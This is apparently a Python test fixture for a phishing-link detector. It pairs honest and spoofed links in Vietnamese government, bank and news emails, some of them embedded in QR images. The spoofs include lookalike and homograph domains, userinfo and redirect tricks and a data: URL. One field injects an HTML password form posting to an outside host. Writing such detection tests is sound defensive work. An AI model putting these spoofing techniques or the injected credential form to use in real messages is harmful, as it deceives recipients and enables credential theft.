# ruff: noqa: E501  (texts of mails stand as they are)
"""What the mail wants opened: text and target disagree, or the target hides where it leads."""

from __future__ import annotations

import io

import segno

from tests.mailguard.builder import Mail, Pair


def page(target: str, shown: str, before: str, after: str = "Trân trọng.") -> str:
    return f"<html><body><p>{before}</p><p>Xem tại <a href='{target}'>{shown}</a>.</p><p>{after}</p></body></html>"


def picture(text: str) -> bytes:
    target = io.BytesIO()
    segno.make(text, error="m").save(target, kind="png", scale=6, border=4)
    return target.getvalue()


def _pair(name: str, mail: Mail, honest: tuple[str, str], spoof: tuple[str, str]) -> Pair:
    return Pair(
        name,
        mail.but(html=page(*honest, before=mail.text)),
        mail.but(html=page(*spoof, before=mail.text)),
        ("link",),
    )


def _code(name: str, mail: Mail, honest: str, spoof: str) -> Pair:
    return Pair(
        name,
        mail.but(files=(("ma-qr.png", "image/png", picture(honest)),)),
        mail.but(files=(("ma-qr.png", "image/png", picture(spoof)),)),
        ("link",),
    )


COLLEAGUE = Mail("Lê Thị Mẫu <mau.lethi@quangninh.gov.vn>", "Tài liệu", "Gửi anh chị tài liệu họp giao ban tuần.")

PAIRS: tuple[Pair, ...] = (
    _pair(
        "portal-text",
        Mail("Văn phòng UBND tỉnh <vp@quangninh.gov.vn>", "Công văn 88", "Công văn 88/UBND-VX đã đăng trên cổng thông tin."),
        ("https://quangninh.gov.vn/cv88", "https://quangninh.gov.vn/cv88"),
        ("https://quangninh-cv88.weebly.com/", "https://quangninh.gov.vn/cv88"),
    ),
    _pair(
        "partner-link-text",
        Mail("Công ty Minh Hoạ <lienhe@minhhoa.com.vn>", "Bảng giá thiết bị", "Công ty gửi bảng giá máy phun khử khuẩn."),
        ("https://minhhoa.com.vn/bang-gia", "https://minhhoa.com.vn/bang-gia"),
        ("http://203.0.113.77/bang-gia", "https://minhhoa.com.vn/bang-gia"),
    ),
    _pair(
        "tax-button",
        Mail("Phòng Kế toán <ketoan@halong.gov.vn>", "Tra cứu hoá đơn", "Phòng gửi hoá đơn điện tử quý III để đối chiếu."),
        ("https://hoadondientu.gdt.gov.vn/", "hoadondientu.gdt.gov.vn"),
        ("https://hoadondientu.gdt.gov.vn.tra-cuu.click/", "hoadondientu.gdt.gov.vn"),
    ),
    _pair(
        "health-declaration",
        Mail("Trạm Y tế phường <tramyte@quangninh.gov.vn>", "Khai báo y tế", "Người về từ vùng dịch khai báo trên trang của Bộ Y tế."),
        ("https://tokhaiyte.vn/", "tokhaiyte.vn"),
        ("https://tokhaiyte.vn@khai-bao.top/", "tokhaiyte.vn"),
    ),
    _pair(
        "insurance-idn",
        Mail("Bộ phận một cửa <motcua@halong.gov.vn>", "Tra cứu BHXH", "Cán bộ tra cứu quá trình đóng trên cổng BHXH."),
        ("https://baohiemxahoi.gov.vn/", "baohiemxahoi.gov.vn"),
        ("https://xn--baohimxahoi-2l7e.vn/", "baohiemxahoi.gov.vn"),
    ),
    _pair(
        "online-form",
        COLLEAGUE.but(subject="Đăng ký tập huấn", text="Anh chị đăng ký lớp tập huấn giám sát dịch theo đường dẫn."),
        ("https://docs.google.com/forms/d/e/1FAIpQLSd/viewform", "Phiếu đăng ký"),
        ("https://www.google.com/url?q=https%3A%2F%2Fdangnhap-mail.top%2F", "https://mail.quangninh.gov.vn"),
    ),
    _pair(
        "shortener",
        Mail("Thành đoàn Hạ Long <thanhdoan@halong.gov.vn>", "Cuộc thi trực tuyến", "Mời đoàn viên thi tìm hiểu phòng chống dịch."),
        ("https://bit.ly/thi-phong-dich", "Vào thi"),
        ("https://bit.ly/thi-phong-dich", "https://thitructuyen.quangninh.gov.vn"),
    ),
    _pair(
        "script-link",
        COLLEAGUE.but(subject="Biên bản họp", text="Gửi anh chị biên bản họp ban chỉ đạo."),
        ("https://hopkhonggiayto.quangninh.gov.vn/bb", "Biên bản"),
        ("data:text/html;base64,PGgxPng8L2gxPg==", "Biên bản"),
    ),
    _pair(
        "bank-notice",
        Mail("Techcombank <info@techcombank.com.vn>", "Ưu đãi tháng 11", "Techcombank gửi Quý khách chương trình tháng 11."),
        ("https://techcombank.com/uu-dai", "techcombank.com"),
        ("https://techcornbank.com/uu-dai", "techcombank.com"),
    ),
    _pair(
        "press-reader",
        Mail("Tuổi Trẻ Online <bantin@tuoitre.com.vn>", "Bản tin sáng", "Dịch sởi giảm ở nhiều tỉnh."),
        ("https://tuoitre.vn/dich-soi.htm", "Đọc tiếp"),
        ("https://tuoitre.vn.doc-tin.site/dich-soi.htm", "Đọc tiếp"),
    ),
    _pair(
        "office-file",
        COLLEAGUE.but(subject="Bảng phân công trực", text="Em gửi bảng phân công trực Tết, anh chị xem và góp ý."),
        ("https://drive.google.com/file/d/1a2b3c/view", "Bảng phân công"),
        ("https://drive-google.com-file.top/1a2b3c", "https://drive.google.com/file/d/1a2b3c"),
    ),
    _pair(
        "own-webmail",
        Mail("Quản trị thư <quantri@halong.gov.vn>", "Chuyển máy chủ thư", "Thư công vụ chuyển sang máy chủ mới tối thứ Bảy."),
        ("https://mail.halong.gov.vn/", "mail.halong.gov.vn"),
        ("https://mail-halong-gov-vn.firebaseapp.com/", "mail.halong.gov.vn"),
    ),
    _code(
        "qr-vaccine",
        Mail("Trung tâm Y tế <tytcampha@quangninh.gov.vn>", "Đăng ký tiêm bù", "Quét mã để đăng ký tiêm bù vắc xin sởi."),
        "https://tiemchung.quangninh.gov.vn/dang-ky",
        "https://tiemchung-quangninh-gov.vn.dangky.click/",
    ),
    _code(
        "qr-fee",
        Mail("Bộ phận một cửa <motcua.bc@quangninh.gov.vn>", "Nộp lệ phí", "Quét mã trong ảnh để nộp lệ phí trực tuyến."),
        "https://dichvucong.gov.vn/thanh-toan",
        "http://203.0.113.12/thanh-toan",
    ),
    _pair(
        "form-in-mail",
        COLLEAGUE.but(subject="Khảo sát", text="Mời anh chị trả lời khảo sát về hội nghị."),
        ("https://forms.gle/abc", "Khảo sát"),
        ("https://forms.gle/abc'></a><form action='https://thu-thap.top/x' method='post'><input type='password' "
         "name='p'></form><a href='https://forms.gle/abc", "Khảo sát"),
    ),
    _pair(
        "percent-host",
        Mail("Cục Thống kê <thongke@quangninh.gov.vn>", "Phiếu điều tra", "Đề nghị đơn vị hoàn thành phiếu điều tra lao động."),
        ("https://dieutra.gso.gov.vn/", "dieutra.gso.gov.vn"),
        ("https://%64ieutra-gso.top/", "dieutra.gso.gov.vn"),
    ),
)  # fmt: skip
